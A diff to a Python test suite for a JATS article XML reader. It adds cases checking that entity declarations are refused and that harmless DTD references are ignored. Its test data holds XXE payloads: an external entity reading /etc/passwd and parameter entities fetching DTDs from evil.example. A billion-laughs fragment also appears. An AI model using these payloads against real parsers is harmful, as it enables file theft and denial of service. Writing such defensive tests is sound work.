@@ -41,6 +41,10 @@ LAUGHS = '\n<!DOCTYPE article [\n<!ENTITY a "ha">\n<!ENTITY b "&a;&a;&a;&a;&a;&a
         ('<!DOCTYPE article [<!ENTITY x SYSTEM "file:///etc/passwd">]>', 1),
         ('<!DOCTYPE article [\n<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>', 2),
         ("<!DOCTYPE article [\n\n%remote;]>", 3),
+        ('<!DOCTYPE article [<!ENTITY % p SYSTEM "a.dtd">\n%q;]>', 2),
+        ('<!DOCTYPE article [<!ENTITY % p "inside">]>', 1),
+        ('<!DOCTYPE article [<!ENTITY % p SYSTEM "http://evil.example/nlm.nih.gov/p.dtd">]>', 1),
+        ('<!DOCTYPE article [<!ENTITY % p SYSTEM "file:///etc/x.dtd">]>', 1),
         ("<!DOCTYPE article [<!-- ' --> <?x ' ?> <!ATTLIST p a CDATA '>]'>\n<!ENTITY x 'y'>]>", 2),
         ('<!DOCTYPE a>\n<!DOCTYPE article [<!ENTITY x "y">]>', 2),
     ],
@@ -48,6 +52,18 @@ LAUGHS = '\n<!DOCTYPE article [\n<!ENTITY a "ha">\n<!ENTITY b "&a;&a;&a;&a;&a;&a
 def test_declared_entities_are_refused_with_their_line(before: str, line: int) -> None:
     refusal = refused(article("<p>&x;</p>", before=before))
     assert (refusal.reason_code, refusal.line) == (JatsReason.ENTITY_DECLARED, line)
+
+
+def test_declarations_that_can_do_nothing_are_passed_over() -> None:
+    """Springer names the DTDs in its answers; NLM 2 declared its pictures as unparsed entities. None of it is loaded."""
+    before = """<!DOCTYPE response [
+<!ENTITY % article SYSTEM "http://jats.nlm.nih.gov/archiving/1.2/JATS-archivearticle1.dtd"> %article;
+<!ENTITY % chars PUBLIC "-//NLM//DTD X//EN" 'chars.ent'>
+<!ENTITY fig1 SYSTEM "fig1.gif" NDATA gif>
+]>"""
+    assert read_article(article("<p>a&alpha;</p>", before=before), name="a.xml").body_html == "<p>aα</p>"
+    refusal = refused(article("<p>&fig1;</p>", before=before))
+    assert refusal.reason_code == JatsReason.ENTITY_UNKNOWN
 
 
 def test_external_dtd_and_xinclude_are_never_fetched(tmp_path: Path) -> None:
